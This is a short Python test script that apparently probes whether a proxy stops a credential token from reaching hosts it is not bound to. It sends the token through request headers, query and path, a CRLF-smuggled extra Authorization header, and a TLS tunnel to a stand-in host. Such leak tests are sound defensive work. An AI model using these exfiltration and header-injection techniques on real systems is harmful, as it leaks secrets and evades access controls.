"""Sends what stands for a credential to a host that it is not bound to, in each place of a request that a program might use."""
# outside: never

import base64
import os

from attempt import attempt
from proxied import FORBIDDEN, GOOD, OTHER, get, origins, tunnel, within

ELSEWHERE = "v6.example.org"  # looked into, and not where the credential belongs


@attempt
def main():
    value = os.environ["ESCAPE_TOKEN"]
    basic = base64.b64encode(f"user:{value}".encode()).decode()
    found = []
    fields = (
        f"Authorization: Bearer {value}",
        f"Authorization: Basic {basic}",
        f"X-Api-Key: {value}",
        f"Cookie: a={value}",
        f"X-Any: before{value}after",
        f"X-Many: {value[:10]}\r\nAuthorization: token {value}",
    )
    for field in fields:
        found += [f"plain {field[:20]}"] if origins(get(f"http://{GOOD}/echo/{FORBIDDEN}", field.encode())) else []
        found += [f"plain to its own host {field[:20]}"] if origins(get(f"http://{OTHER}/public/{FORBIDDEN}", field.encode())) else []
    found += ["query"] if origins(get(f"http://{GOOD}/{FORBIDDEN}?token={value}")) else []
    found += ["path"] if origins(get(f"http://{GOOD}/{FORBIDDEN}/{value}")) else []
    talk = tunnel(f"{ELSEWHERE}:443")
    if talk:
        request = f"GET /public/{FORBIDDEN} HTTP/1.1\r\nHost: {ELSEWHERE}\r\nAuthorization: Bearer {value}\r\nConnection: close\r\n\r\n"
        found += ["TLS"] if origins(within(talk, ELSEWHERE, request.encode())) else []
    return found
